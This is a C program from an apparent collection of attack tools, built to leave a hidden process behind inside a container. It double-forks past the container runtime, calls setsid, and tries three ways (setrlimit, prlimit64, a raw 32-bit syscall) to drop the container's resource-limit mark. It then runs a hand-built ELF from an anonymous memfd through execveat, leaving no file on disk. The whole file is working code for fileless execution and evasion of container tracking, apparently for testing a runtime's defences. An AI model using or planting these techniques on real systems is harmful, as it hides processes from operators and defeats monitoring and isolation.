/* SPDX-License-Identifier: MIT */
/*
 * hiding.c - leave a process behind that its container does not know.
 *
 *   hiding WORD (it tells the process from others)
 *
 * The process is made past the runtime, so no table lists it. It leaves its parent and its session,
 * tries to drop the mark of its container, and executes a program without a file, so that it has
 * nothing of the runtime left.
 */
#include "attack.h"

#include <sys/resource.h>

/* An ELF header, a program header and: mov $34,%eax; syscall; jmp to the start. pause(2) is for the
 * kernel alone. */
static const unsigned char
	pauses[] =
		{
			0x7f, 'E',  'L',  'F', 2,    1,    1,    0,    0,
			0,    0,    0,    0,   0,    0,    0, /* type, machine, version: */
			2,    0,    62,   0,   1,    0,    0,    0,    0x78,
			0,    0x40, 0,    0,   0,    0,    0,  /* entry */
			64,   0,    0,    0,   0,    0,    0,    0,    0,
			0,    0,    0,    0,   0,    0,    0,  /* program headers */
			0,    0,    0,    0,   64,   0,    56,   0,    1,
			0,    0,    0,    0,   0,    0,    0,  /* sizes and counts */
			1,    0,    0,    0,   5,    0,    0,    0,    0,
			0,    0,    0,    0,   0,    0,    0,   /* PT_LOAD, R and X */
			0,    0,    0x40, 0,   0,    0,    0,    0,    0,
			0,    0x40, 0,    0,   0,    0,    0,  /* addresses */
			0x81, 0,    0,    0,   0,    0,    0,    0,    0x81,
			0,    0,    0,    0,   0,    0,    0,  /* sizes */
			0,    0x10, 0,    0,   0,    0,    0,    0,    0xb8,
			34,   0,    0,    0,   0x0f, 0x05, 0xeb, 0xf7,
};

/* setrlimit(2) as a 32-bit program makes it */
static long lower32(void)
{
	static const uint32_t lower[2] = {4, 4};
	int ret;

	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(75), "b"(RLIMIT_LOCKS), "c"((uint32_t)(uintptr_t)lower)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

int main(int argc, char **argv)
{
	const struct rlimit lower = {5, 5};
	char byte = 0;
	int ready[2];
	long fd;

	if (argc != 2)
		return 2;
	MUST(pipe2(ready, O_CLOEXEC));
	if (PAST(SYS_clone, SIGCHLD) != 0) {
		close(ready[1]);
		return MUST(read(ready[0], &byte, 1)) != 0; /* its end is that of the exec */
	}
	attempt("lower the limit by setrlimit", PAST(SYS_setrlimit, RLIMIT_LOCKS, &lower));
	attempt("lower the limit by prlimit64", PAST(SYS_prlimit64, 0, RLIMIT_LOCKS, &lower, 0));
	attempt("lower the limit by a 32-bit call", lower32());
	attempt("leave the session", PAST(SYS_setsid));
	if (PAST(SYS_clone, 0) != 0)
		PAST(SYS_exit, 0);
	fd = PAST(SYS_memfd_create, "program", MFD_CLOEXEC);
	PAST(SYS_write, fd, pauses, sizeof(pauses));
	for (int other = 0; other < 3; other++)
		PAST(SYS_close, other);
	PAST(SYS_execveat, fd, "", argv, &argv[2], AT_EMPTY_PATH);
	PAST(SYS_write, ready[1], &byte, 1);
	PAST(SYS_exit, 1);
}
